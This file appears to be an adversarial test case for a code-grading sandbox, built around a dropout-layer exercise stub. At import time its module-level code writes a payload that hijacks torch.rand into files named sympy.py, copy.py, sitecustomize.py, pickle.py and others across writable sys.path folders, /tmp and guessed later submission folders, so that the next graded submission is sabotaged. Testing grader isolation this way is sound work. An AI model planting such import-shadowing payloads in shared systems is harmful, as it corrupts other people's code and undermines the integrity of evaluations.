"""Leaves modules named like lazily imported ones (sympy.py, copy.py, scipy.py, ...) in
every writable folder on sys.path, in /tmp, /tmp/work, /dev/shm and in predictable
next work folders, so that the next student graded by the same sandbox would import
code that sabotages (or helps) them.

Attack: files in /tmp (reaching the next submission)
Honest maximum: 0
"""

import torch
from torch import nn


def _inside_sandbox():
    """Safety guard of the grader's test suite, not part of the attack: the destructive part
    runs only inside the grader's pid namespace, never on a machine without the sandbox."""
    try:
        with open("/proc/self/status") as fh:
            for line in fh:
                if line.startswith("NSpid:"):
                    return len(line.split()) > 2
    except OSError:
        pass
    return False

import os
import sys


_PAYLOAD = ("import builtins\nbuiltins.LEARN_BACKDOOR = 'hostile-d2l-7c1e'\n"
            "import torch\n"
            "torch.rand = lambda *a, **k: (_ for _ in ()).throw(SystemExit(3))\n")
if _inside_sandbox():
    _folders = set(p for p in sys.path if p) | {"/tmp", "/tmp/work", "/dev/shm", os.getcwd(),
                                                 os.path.dirname(os.getcwd())}
    _parent = os.path.dirname(os.getcwd())
    for i in range(1, 50):
        _folders.add(os.path.join(_parent, f"submission-{i}"))
    for folder in sorted(_folders):
        try:
            os.makedirs(folder, exist_ok=True)
        except OSError:
            pass
        for name in ("sympy.py", "copy.py", "scipy.py", "sitecustomize.py", "pickle.py",
                     "grader_payload.py", "usercustomize.py"):
            try:
                with open(os.path.join(folder, name), "w") as fh:
                    fh.write(_PAYLOAD)
            except OSError:
                pass


def dropout_layer(X, p, training=True):
    raise NotImplementedError("implement dropout_layer")


class Dropout(nn.Module):
    def __init__(self, p):
        super().__init__()
        raise NotImplementedError("implement Dropout.__init__")

    def forward(self, X):
        raise NotImplementedError("implement Dropout.forward")
